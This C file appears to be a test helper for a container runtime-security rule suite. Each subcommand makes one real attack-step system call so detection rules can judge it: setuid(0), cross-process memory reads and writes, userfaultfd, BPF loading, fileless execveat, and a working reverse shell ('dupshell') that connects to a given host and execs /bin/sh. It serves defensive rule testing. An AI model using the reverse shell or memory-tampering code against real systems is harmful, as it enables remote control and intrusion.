/*
 * The system calls of attack steps that no busybox applet makes, one per
 * subcommand, for test_default_rules.sh (built static, copied into the
 * container). Each makes the real call and reports its result; a refusal
 * (EPERM from the kernel or seccomp) is an outcome too: the rules judge the
 * attempt.
 *
 *   setuid0            setuid(0) and setgid(0) (run it as a non-root user)
 *   vmwrite PID        process_vm_writev into PID (a byte of its stack)
 *   vmread PID         process_vm_readv of PID
 *   uffd               userfaultfd(0)
 *   bpf                bpf(BPF_PROG_LOAD) of a two-instruction program
 *   unix PATH          connect to the unix socket PATH
 *   execveat FILE ...  open FILE, execveat(fd, "", AT_EMPTY_PATH) with the rest as argv
 *   dupshell HOST PORT connect to HOST:PORT, dup2 the socket onto 0/1/2, exec /bin/sh
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

extern char **environ;

static int report(const char *what, long rc)
{
	printf("%s: %s\n", what, rc < 0 ? strerror(errno) : "ok");
	return 0;
}

static int vm(pid_t pid, int write)
{
	char local[8] = "palisad", remote_buf[8];
	struct iovec l = { local, sizeof(local) };
	/* The target's copy of remote_buf lives at the same address only if it
	 * runs this binary; any address will do: the attempt is what counts. */
	struct iovec r = { remote_buf, sizeof(remote_buf) };

	return report(write ? "process_vm_writev" : "process_vm_readv",
		      write ? process_vm_writev(pid, &l, 1, &r, 1, 0)
			    : process_vm_readv(pid, &l, 1, &r, 1, 0));
}

static int bpf_load(void)
{
	struct bpf_insn prog[2] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr a;

	memset(&a, 0, sizeof(a));
	a.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	a.insns = (unsigned long)prog;
	a.insn_cnt = 2;
	a.license = (unsigned long)"GPL";
	return report("bpf", syscall(SYS_bpf, BPF_PROG_LOAD, &a, sizeof(a)));
}

static int unix_connect(const char *path)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
	return report("connect", connect(fd, (struct sockaddr *)&sa, sizeof(sa)));
}

static int dup_shell(const char *host, int port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((unsigned short)port) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	char *sh[] = { "sh", NULL };

	inet_pton(AF_INET, host, &sa.sin_addr);
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return report("connect", -1);
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	execve("/bin/sh", sh, environ);
	return report("execve", -1);
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";

	if (!strcmp(cmd, "setuid0")) {
		report("setuid", setuid(0));
		return report("setgid", setgid(0));
	}
	if (!strcmp(cmd, "vmwrite") && argc == 3)
		return vm(atoi(argv[2]), 1);
	if (!strcmp(cmd, "vmread") && argc == 3)
		return vm(atoi(argv[2]), 0);
	if (!strcmp(cmd, "uffd"))
		return report("userfaultfd", syscall(SYS_userfaultfd, 0));
	if (!strcmp(cmd, "bpf"))
		return bpf_load();
	if (!strcmp(cmd, "unix") && argc == 3)
		return unix_connect(argv[2]);
	if (!strcmp(cmd, "dupshell") && argc == 4)
		return dup_shell(argv[2], atoi(argv[3]));
	if (!strcmp(cmd, "execveat") && argc >= 4) {
		int fd = open(argv[2], O_RDONLY | O_CLOEXEC);

		syscall(SYS_execveat, fd, "", argv + 3, environ, AT_EMPTY_PATH);
		return report("execveat", -1);
	}
	fprintf(stderr, "usage: %s setuid0|vmwrite PID|vmread PID|uffd|bpf|unix PATH|"
		"dupshell HOST PORT|execveat FILE ARGV0 [ARG...]\n", argv[0]);
	return 2;
}
